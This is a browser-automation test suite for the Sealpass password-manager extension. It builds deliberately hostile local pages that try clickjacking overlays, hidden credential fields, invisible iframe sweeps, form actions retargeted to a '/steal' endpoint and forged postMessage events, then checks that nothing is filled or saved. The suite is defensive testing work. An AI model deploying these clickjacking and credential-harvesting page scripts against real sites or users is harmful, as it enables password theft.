/**
 * The malicious-page suite (S7, T14–T18, T21), one test per technique, in real Chromium against pages on
 * 127.0.0.1 that attack the inline menu, the generator menu, the save bar and the fill. Each test first tries
 * the attack the way a user would be fooled (real mouse clicks where our UI is or would be), checks that nothing
 * was filled or saved and our UI is gone, then removes the attack and acts once for real: that proves the
 * scripts were alive and had processed everything before, so "nothing filled" is not an accident of timing; the
 * audit log (or the vault) must then hold exactly one more fill (or login). The clipboard is not granted to these
 * pages.
 */
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pressOurButton, readOurUi } from '../autofill/closed-shadow';
import { head, loginForm, startPageServer, type PageServer, type PageSource } from './autofill-pages';
import {
  chooseContextMenuFill,
  filledCount,
  menuBox,
  openPopupWindow,
  overlayBoxes,
  pickUntil,
  pressFillShortcut,
  renderFrames,
  saveLogin,
  waitForMenu,
} from './autofill-steps';
import { launchExtension, openPopup, type LaunchedExtension } from './harness';
import { createVaultInPopup, POLL, request, strongMasterPassword, token } from './popup-steps';

/** The attacks of the clickjacking page, each applied "before" (armed at load) or "after" the menu rendered. */
const CLICKJACK_SCRIPT = `
const params = new URLSearchParams(location.search);
const technique = params.get('t');
const ours = () => [...document.documentElement.children].filter((el) => el.localName.startsWith('sealpass-'));
let armed = false;
let overlay = null;
function decoy(closed) {
  const el = document.createElement('div');
  el.setAttribute('popover', 'manual');
  el.style.cssText = 'position:fixed;inset:0;margin:0;width:100vw;height:100vh;border:0;pointer-events:none;background:rgba(255,255,255,.97);font:24px system-ui';
  el.textContent = 'Click anywhere to claim your prize!';
  if (!closed) return document.body.appendChild(el);
  const holder = document.body.appendChild(document.createElement('prize-box'));
  holder.attachShadow({ mode: 'closed' }).append(el);
  return el;
}
function raise(closed) {
  overlay ??= decoy(closed);
  if (overlay.matches(':popover-open')) overlay.hidePopover();
  overlay.showPopover();
}
const attacks = {
  'host-opacity': () => ours().forEach((el) => el.style.setProperty('opacity', '0.01', 'important')),
  'html-opacity': () => { document.documentElement.style.opacity = '0.01'; },
  'body-opacity': () => { document.body.style.opacity = '0.01'; },
  overlay: () => raise(false),
  'overlay-closed-shadow': () => raise(true),
};
window.attack = () => { armed = true; attacks[technique](); };
window.disarm = () => {
  armed = false;
  document.documentElement.style.opacity = '';
  document.body.style.opacity = '';
  if (overlay?.matches(':popover-open')) overlay.hidePopover();
};
// Whatever Sealpass shows later is attacked as soon as it appears (before it is ever painted).
new MutationObserver(() => { if (armed && ours().length > 0) attacks[technique](); }).observe(document.documentElement, { childList: true });
if (params.get('when') === 'before') window.attack();
`;

/** Extra fields the user cannot see, before the real ones so a naive "first username field" would pick them. */
const HIDDEN_FIELDS = `
<form id="login" action="/done" method="post">
  <input id="h-offscreen" name="email" autocomplete="username" style="position:absolute;left:-9999px">
  <input id="h-tiny" name="login" autocomplete="username" style="width:1px;height:1px;padding:0;border:0">
  <label>Phone <input id="h-faint" name="phone" autocomplete="username" style="opacity:0.5"></label>
  <div style="position:relative;width:300px"><input id="h-covered" name="account" autocomplete="username">
    <div style="position:absolute;inset:0;background:#fff"></div></div>
  <div style="opacity:0.6"><div style="opacity:0.9"><input id="h-nested" name="handle" autocomplete="username"></div></div>
  <label>Email <input id="user" name="username" autocomplete="username"></label>
  <label>Password <input id="pass" name="password" type="password" autocomplete="current-password"></label>
  <button type="submit">Sign in</button>
</form>`;
const HIDDEN_IDS = ['h-offscreen', 'h-tiny', 'h-faint', 'h-covered', 'h-nested'];

/** 20 login frames, hidden 10 different ways, half same-origin and half cross-origin. */
const SWEEP_STYLES = [
  'display:none', 'width:0;height:0;border:0', 'opacity:0', 'visibility:hidden', 'position:absolute;left:-9999px',
  'width:1px;height:1px;border:0', 'clip-path:inset(50%)', 'opacity:0.05', 'position:absolute;top:-2000px', 'transform:scale(0)',
];
const sweepPage: PageSource = ({ origin, otherOrigin }) =>
  `${head('Innocent page')}<p>Nothing to see here.</p>` +
  [origin, otherOrigin]
    .flatMap((o) => SWEEP_STYLES.map((style, i) => `<iframe class="sweep" src="${o}/login?sweep=${i}" style="${style}" width="400" height="300"></iframe>`))
    .join('') +
  '<div id="later"></div>';

/** A sign-up form: its new-password field gets the generator menu. */
const SIGNUP_FORM =
  '<form id="signup" action="/done" method="post"><label>Email <input id="email" autocomplete="username"></label>' +
  '<label>Password <input id="pw" type="password" autocomplete="new-password"></label>' +
  '<label>Confirm <input id="pw2" type="password" autocomplete="new-password"></label><button type="submit">Join</button></form>';

/** A single-page app's login: the submit stays on the page, so the save bar shows here, under the page's attack. */
const SPA_LOGIN = loginForm('/done').replace('<form id="login"', '<form id="login" onsubmit="event.preventDefault()"');

/** Reports every message posted to the page's window, as a fingerprinting script would collect them. */
const LISTEN_SCRIPT = `window.seen = []; addEventListener('message', (event) => window.seen.push(JSON.stringify(event.data)));`;

const PAGES: Record<string, PageSource> = {
  '/mal/clickjack': () => `${head('Prize')}${loginForm()}<script>${CLICKJACK_SCRIPT}</script>`,
  '/mal/clickjack-signup': () => `${head('Prize')}${SIGNUP_FORM}<script>${CLICKJACK_SCRIPT}</script>`,
  '/mal/clickjack-save': () => `${head('Prize')}${SPA_LOGIN}<script>${CLICKJACK_SCRIPT}</script>`,
  '/mal/listen': () => `<!doctype html><html><head><script>${LISTEN_SCRIPT}</script></head><body>${loginForm()}</body></html>`,
  '/mal/hidden-fields': () => `${head('Hidden fields')}${HIDDEN_FIELDS}`,
  '/mal/sweep': sweepPage,
  '/mal/action-other': ({ otherOrigin }) => `${head('Phish')}${loginForm(`${otherOrigin}/steal`)}`,
  '/mal/action-change': ({ otherOrigin }) =>
    `${head('Switch')}${loginForm()}<script>
      const form = document.getElementById('login');
      window.retarget = () => { form.action = '${otherOrigin}/steal'; };
      window.retargetAndSubmit = () => { form.action = '${otherOrigin}/steal'; form.submit(); };
    </script>`,
  '/mal/postmessage': () =>
    `${head('Messages')}${loginForm()}<script>
      window.spam = () => {
        const forged = [
          { kind: 'sealpass-fill', grant: '0'.repeat(32), id: null, source: 'popup', requireFocus: false },
          { type: 'autofillFill', payload: { id: 'x', fields: ['username', 'password'] } },
          { type: 'autofillQuery', payload: {} },
          { target: 'offscreen', type: 'clear-clipboard' },
        ];
        for (const message of forged) {
          window.postMessage(message, '*');
          window.dispatchEvent(new MessageEvent('message', { data: message, origin: location.origin }));
          document.dispatchEvent(new CustomEvent('sealpass-fill', { detail: message }));
        }
      };
      window.spam();
    </script>`,
};

describe('malicious pages (T14–T18, T21)', () => {
  let extension: LaunchedExtension | undefined;
  let server: PageServer | undefined;
  let page: Page | undefined;
  const login = { title: `Bank ${token(6)}`, username: `victim.${token(6)}@mail.test`, password: `Pw-${token(14)}` };
  const launched = () => {
    if (!extension) throw new Error('the extension did not launch');
    return extension;
  };
  const srv = () => {
    if (!server) throw new Error('no page server');
    return server;
  };

  beforeAll(async () => {
    server = await startPageServer(PAGES);
    // No clipboard for hostile pages.
    extension = await launchExtension({ grantClipboard: false });
    const popup = await openPopup(extension.context, extension.extensionId);
    await createVaultInPopup(popup, strongMasterPassword());
    await popup.close();
    await saveLogin(extension, { ...login, urls: [`${server.origin}/login`] });
  });

  afterAll(async () => {
    await extension?.close();
    await server?.close();
  });

  async function open(url: string): Promise<Page> {
    await page?.close();
    page = await launched().context.newPage();
    await page.setViewportSize({ width: 1000, height: 700 });
    await page.goto(url);
    return page;
  }

  const value = (f: Page | Frame, selector: string) => f.locator(selector).inputValue();
  const filledWith = async (f: Page | Frame) => (await value(f, '#user')) === login.username && (await value(f, '#pass')) === login.password;
  const empty = async (f: Page | Frame) => (await value(f, '#user')) === '' && (await value(f, '#pass')) === '';

  /** Where the menu's first row is, or would be, under the username field (the page draws its decoy there). */
  async function firstRowSpot(p: Page): Promise<{ x: number; y: number }> {
    const field = await p.locator('#user').boundingBox();
    if (!field) throw new Error('no username field');
    return { x: field.x + 100, y: field.y + field.height + 4 + 50 };
  }

  /**
   * The real fill after an attack: the menu from a fresh focus, picked until filled; exactly one more fill in
   * the audit log than before the attack.
   */
  async function fillForReal(p: Page, before: number, frame: Page | Frame = p): Promise<void> {
    // A fresh focus: the attack's click may have left the focus in the password field already.
    await frame.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    await frame.locator('#pass').click();
    await waitForMenu(p, frame);
    await pickUntil(p, 0, () => filledWith(frame), frame);
    expect(await filledCount(launched())).toBe(before + 1);
  }

  describe('T14 clickjacking: the menu closes (or never opens) and nothing is filled', () => {
    const techniques = ['host-opacity', 'html-opacity', 'body-opacity', 'overlay', 'overlay-closed-shadow'] as const;
    const cases = techniques.flatMap((t) => (['before', 'after'] as const).map((when) => [t, when] as const));

    it.each(cases)('%s, applied %s the menu renders', async (technique, when) => {
      const before = await filledCount(launched());
      const p = await open(`${srv().origin}/mal/clickjack?t=${technique}&when=${when}`);
      await p.locator('#user').click();
      if (when === 'after') {
        await waitForMenu(p);
        await renderFrames(p);
        await p.evaluate(() => (window as unknown as { attack(): void }).attack());
      }
      // Whatever showed is gone: closed by the guard, or never opened.
      await expect.poll(async () => (await overlayBoxes(p)).length, POLL).toBe(0);
      const spot = await firstRowSpot(p);
      await p.mouse.click(spot.x, spot.y);
      await renderFrames(p);
      expect(await empty(p)).toBe(true);
      await p.evaluate(() => (window as unknown as { disarm(): void }).disarm());
      await fillForReal(p, before);
    });
  });

  /** Our UI's text on `p`, '' when nothing shows. */
  const ourText = async (p: Page) => (await readOurUi(p)).map((ui) => ui.text).join(' ');
  /** The vault's logins (the suite saves them through the background and the bar). */
  const loginCount = async () => ((await request(launched(), 'itemList')) as { items: unknown[] }).items.length;

  /** The centre of our shown button `act`, or null; a host the guard is closing right now counts as none. */
  async function ourButton(p: Page, act: string): Promise<{ x: number; y: number } | null> {
    const buttons = await readOurUi(p).then((uis) => uis.flatMap((ui) => ui.buttons), () => []);
    return buttons.find((b) => b.act === act) ?? null;
  }

  /**
   * Where the generator menu's suggested password is, or would be, under the password field (the page draws its
   * decoy there): beyond the fields' right edge, so a click that gets through lands on the page's blank area.
   */
  async function fillSpot(p: Page): Promise<{ x: number; y: number }> {
    const shown = await ourButton(p, 'fill');
    if (shown) return shown;
    const field = await p.locator('#pw').boundingBox();
    if (!field) throw new Error('no password field');
    return { x: field.x + field.width + 10, y: field.y + field.height + 4 + 40 };
  }

  describe('T14 clickjacking on the generator menu: it closes (or never opens) and nothing is filled', () => {
    const techniques = ['host-opacity', 'html-opacity', 'body-opacity', 'overlay', 'overlay-closed-shadow'] as const;
    const cases = techniques.flatMap((t) => (['before', 'after'] as const).map((when) => [t, when] as const));

    it.each(cases)('%s, applied %s the menu renders', async (technique, when) => {
      const p = await open(`${srv().origin}/mal/clickjack-signup?t=${technique}&when=${when}`);
      await p.locator('#pw').focus();
      if (when === 'after') {
        await expect.poll(() => ourText(p), POLL).toContain('Suggested password');
        await renderFrames(p);
      }
      const spot = await fillSpot(p);
      if (when === 'after') await p.evaluate(() => (window as unknown as { attack(): void }).attack());
      await expect.poll(async () => (await overlayBoxes(p)).length, POLL).toBe(0);
      await p.mouse.click(spot.x, spot.y);
      await renderFrames(p);
      expect(await value(p, '#pw')).toBe('');
      expect(await value(p, '#pw2')).toBe('');
      // Without the attack the same menu fills: the scripts were alive all along.
      await p.evaluate(() => (window as unknown as { disarm(): void }).disarm());
      await p.locator('#email').focus();
      await p.locator('#pw').focus();
      await expect.poll(() => ourText(p), POLL).toContain('Suggested password');
      await pressOurButton(p, 'Fill', async () => (await value(p, '#pw')) !== '', POLL.timeout);
      expect(await value(p, '#pw2')).toBe(await value(p, '#pw'));
    });
  });

  describe('T14 clickjacking on the save bar: it closes (or never opens) and nothing is saved', () => {
    const techniques = ['host-opacity', 'html-opacity', 'body-opacity', 'overlay', 'overlay-closed-shadow'] as const;
    const cases = techniques.flatMap((t) => (['before', 'after'] as const).map((when) => [t, when] as const));

    /**
     * Types a login not saved yet into the form and submits it; the submit stays on the page (single-page app).
     * The inline menu of the password field is waited for and closed first: opening after the bar, it would be
     * drawn over it and close it (a later top-layer host covers an earlier one). `beforeSubmit` runs just before
     * the Enter that submits.
     */
    async function submitNew(p: Page, beforeSubmit: () => Promise<unknown> = async () => undefined): Promise<string> {
      const username = `new.${token(8)}@mail.test`;
      await p.locator('#user').fill(username);
      await p.locator('#pass').fill(`Pw-${token(14)}`);
      await waitForMenu(p);
      await p.keyboard.press('Escape');
      await expect.poll(async () => (await overlayBoxes(p)).length, POLL).toBe(0);
      await beforeSubmit();
      await p.locator('#pass').press('Enter');
      return username;
    }

    /** Where the bar's Save button is, or would be: the bar sits at the viewport's top right corner. */
    async function saveSpot(p: Page): Promise<{ x: number; y: number }> {
      return (await ourButton(p, 'accept')) ?? { x: 1000 - 16 - 360 + 40, y: 16 + 150 };
    }

    it.each(cases)('%s, applied %s the bar renders', async (technique, when) => {
      const before = await loginCount();
      const p = await open(`${srv().origin}/mal/clickjack-save?t=${technique}&when=later`);
      // The inline menu shows only once the background has injected the submit watcher (autofillQuery waits for it).
      await submitNew(p, async () => {
        if (when === 'before') await p.evaluate(() => (window as unknown as { attack(): void }).attack());
      });
      if (when === 'after') {
        await expect.poll(() => ourText(p), POLL).toContain('Save this login');
        await renderFrames(p);
      }
      const spot = await saveSpot(p);
      if (when === 'after') await p.evaluate(() => (window as unknown as { attack(): void }).attack());
      await expect.poll(async () => (await overlayBoxes(p)).length, POLL).toBe(0);
      await p.mouse.click(spot.x, spot.y);
      await renderFrames(p);
      expect(await loginCount()).toBe(before);
      // Without the attack the next submit's bar saves: the scripts were alive all along.
      await p.evaluate(() => (window as unknown as { disarm(): void }).disarm());
      await submitNew(p);
      await expect.poll(() => ourText(p), POLL).toContain('Save this login');
      await pressOurButton(p, 'accept', async () => (await loginCount()) === before + 1, POLL.timeout);
    });
  });

  it('T14 synthetic clicks from page script on the generator menu and the save bar fill and save nothing', async () => {
    const p = await open(`${srv().origin}/mal/clickjack-signup?t=overlay&when=later`);
    await p.locator('#pw').focus();
    await expect.poll(() => ourText(p), POLL).toContain('Suggested password');
    await renderFrames(p);
    const fill = await fillSpot(p);
    const synthetic = ({ x, y }: { x: number; y: number }) => {
      const init = { bubbles: true, composed: true, cancelable: true, clientX: x, clientY: y, detail: 1 };
      for (const target of [document.elementFromPoint(x, y), ...document.documentElement.children]) {
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) target?.dispatchEvent(new MouseEvent(type, init));
        (target as HTMLElement | null)?.click();
      }
    };
    await p.evaluate(synthetic, fill);
    await renderFrames(p);
    expect(await value(p, '#pw')).toBe('');
    await pressOurButton(p, 'Fill', async () => (await value(p, '#pw')) !== '', POLL.timeout);

    const before = await loginCount();
    const q = await open(`${srv().origin}/mal/clickjack-save?t=overlay&when=later`);
    await q.locator('#user').fill(`synthetic.${token(8)}@mail.test`);
    await q.locator('#pass').fill(`Pw-${token(14)}`);
    await waitForMenu(q);
    await q.keyboard.press('Escape');
    await expect.poll(async () => (await overlayBoxes(q)).length, POLL).toBe(0);
    await q.locator('#pass').press('Enter');
    await expect.poll(() => ourText(q), POLL).toContain('Save this login');
    await renderFrames(q);
    const save = (await ourButton(q, 'accept'))!;
    await q.evaluate(synthetic, save);
    await q.evaluate(() => document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true })));
    await renderFrames(q);
    expect(await loginCount()).toBe(before);
    await pressOurButton(q, 'accept', async () => (await loginCount()) === before + 1, POLL.timeout);
  });

  it('T21 the content script does not announce Sealpass or its id to the page, and a page’s forged "script started" event does not stop it', async () => {
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/mal/listen`);
    // The content script has run: its menu opens on a focus.
    await p.locator('#user').click();
    await waitForMenu(p);
    const seen = await p.evaluate(() => (window as unknown as { seen: string[] }).seen);
    expect(seen.join('\n')).not.toContain(launched().extensionId);
    expect(seen.join('\n').toLowerCase()).not.toContain('autofill');
    // What WXT's content-script context listens for (an event naming the id, which a page can learn elsewhere).
    await p.evaluate((id) => {
      const detail = { contentScriptName: 'autofill', messageId: 'page' };
      document.dispatchEvent(new CustomEvent(`${id}:autofill:wxt:content-script-started`, { detail }));
      window.postMessage({ type: `${id}:autofill:wxt:content-script-started`, ...detail }, '*');
    }, launched().extensionId);
    await fillForReal(p, before);
  });

  it('T14 synthetic clicks from page script (on the host, at the row, keyboard) pick nothing', async () => {
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/login`);
    await p.locator('#user').click();
    await waitForMenu(p);
    await renderFrames(p);
    const spot = await firstRowSpot(p);
    await p.evaluate(({ x, y }) => {
      const init = { bubbles: true, composed: true, cancelable: true, clientX: x, clientY: y };
      for (const target of [document.elementFromPoint(x, y), ...document.documentElement.children]) {
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) target?.dispatchEvent(new MouseEvent(type, init));
        (target as HTMLElement | null)?.click();
      }
      const field = document.getElementById('user');
      for (const key of ['ArrowDown', 'Enter']) field?.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
    }, spot);
    await renderFrames(p);
    expect(await empty(p)).toBe(true);
    await fillForReal(p, before);
  });

  it('T15 hidden extra fields (off-screen, 1 px, opacity 0.5, covered, nested opacity 0.54) are never filled', async () => {
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/mal/hidden-fields`);
    await fillForReal(p, before);
    for (const id of HIDDEN_IDS) expect(await value(p, `#${id}`), id).toBe('');
  });

  it('T16 sweep: 20 hidden login frames get no menu and no fill from page load, focus, shortcut, context menu or popup', async () => {
    await saveLogin(launched(), { ...login, title: `${login.title} other`, urls: [`${srv().otherOrigin}/login`] });
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/mal/sweep`);
    const frames = () => p.frames().filter((f) => f.url().includes('/login?sweep='));
    await expect.poll(() => frames().length, POLL).toBe(20);
    for (const frame of frames()) await frame.locator('#pass').waitFor({ state: 'attached' });
    // The page moves the focus into each same-origin frame's fields, as a sweep script would.
    await p.evaluate(() => {
      for (const frame of document.querySelectorAll<HTMLIFrameElement>('iframe.sweep')) {
        const doc = frame.contentDocument;
        doc?.getElementById('user')?.focus();
        doc?.getElementById('pass')?.focus();
      }
    });
    await pressFillShortcut(launched(), p);
    await chooseContextMenuFill(launched(), p, 0);
    const popup = await openPopupWindow(launched());
    // The top page matches the saved login, yet has no form: Fill reports that, and fills no frame.
    const section = popup.getByTestId('tab-logins');
    await section.getByRole('button', { name: `Fill ${login.title}`, exact: true }).click();
    await popup.getByText('No login form is visible on this page.').waitFor();
    await popup.close();
    // Hidden frames render no animation frames; their state is read as it is (the real fill below orders it).
    for (const frame of frames()) {
      expect(await empty(frame), frame.url()).toBe(true);
      expect(await overlayBoxes(frame), frame.url()).toEqual([]);
    }
    expect(await filledCount(launched())).toBe(before);
    // The same page with a visible login form fills at once: the frames' scripts were running all along.
    await p.evaluate((form) => {
      const later = document.getElementById('later');
      if (later) later.innerHTML = form;
    }, loginForm());
    await fillForReal(p, before);
    for (const frame of frames()) expect(await empty(frame), frame.url()).toBe(true);
  });

  it('T17 an https login is not offered on the http page of the same host and port', async () => {
    // The other port's http page: an https login saved for the same host and port, and an http one.
    const host = new URL(srv().otherOrigin).host;
    const secure = { title: `Secure ${token(6)}`, username: `secure.${token(6)}@mail.test`, password: `Pw-${token(14)}` };
    const plain = { title: `Plain ${token(6)}`, username: `plain.${token(6)}@mail.test`, password: `Pw-${token(14)}` };
    await saveLogin(launched(), { ...secure, urls: [`https://${host}/login`] });
    await saveLogin(launched(), { ...plain, urls: [`http://${host}/login`] });
    const before = await filledCount(launched());
    const p = await open(`${srv().otherOrigin}/login`);
    const popup = await openPopupWindow(launched());
    const section = popup.getByTestId('tab-logins');
    await section.getByRole('button', { name: `Fill ${plain.title}`, exact: true }).waitFor();
    expect(await section.getByRole('button', { name: `Fill ${secure.title}`, exact: true }).count()).toBe(0);
    await section.getByRole('button', { name: `Fill ${plain.title}`, exact: true }).click();
    await expect.poll(async () => (await value(p, '#user')) === plain.username && (await value(p, '#pass')) === plain.password, POLL).toBe(true);
    expect(await filledCount(launched())).toBe(before + 1);
  });

  it('T18 a form posting to another origin is refused: menu picks and the popup fill nothing', async () => {
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/mal/action-other`);
    await p.locator('#user').click();
    await waitForMenu(p);
    await renderFrames(p);
    for (let i = 0; i < 3; i++) {
      const box = await menuBox(p);
      if (box) await p.mouse.click(box.x + box.width / 2, box.y + 50);
      await renderFrames(p);
    }
    // The popup's Fill reaches the same refusal and says so: by then every earlier pick was handled too.
    const popup = await openPopupWindow(launched());
    await popup.getByTestId('tab-logins').getByRole('button', { name: `Fill ${login.title}`, exact: true }).click();
    await popup.getByText('sends to another site', { exact: false }).waitFor();
    await popup.close();
    expect(await empty(p)).toBe(true);
    expect(await filledCount(launched())).toBe(before);
  });

  it('T18 the action changed after the fill: the fields are cleared at once', async () => {
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/mal/action-change`);
    await fillForReal(p, before);
    await p.evaluate(() => (window as unknown as { retarget(): void }).retarget());
    await expect.poll(() => empty(p), POLL).toBe(true);
  });

  it('T18 the action changed and submitted by script in one go: the other origin receives no credential', async () => {
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/mal/action-change`);
    await fillForReal(p, before);
    const posted = srv().posts.length;
    await Promise.all([p.waitForURL(/\/steal$/), p.evaluate(() => (window as unknown as { retargetAndSubmit(): void }).retargetAndSubmit())]);
    await expect.poll(() => srv().posts.length, POLL).toBe(posted + 1);
    const post = srv().posts.at(-1)!;
    expect(post.origin).toBe(srv().otherOrigin);
    expect(post.body).not.toContain(encodeURIComponent(login.password));
    expect(post.body).not.toContain(encodeURIComponent(login.username));
  });

  it('T21 page postMessage and forged events are ignored: no menu, no fill', async () => {
    const before = await filledCount(launched());
    const p = await open(`${srv().origin}/mal/postmessage`);
    await p.evaluate(() => (window as unknown as { spam(): void }).spam());
    await renderFrames(p);
    expect(await overlayBoxes(p)).toEqual([]);
    expect(await empty(p)).toBe(true);
    await fillForReal(p, before);
  });
});
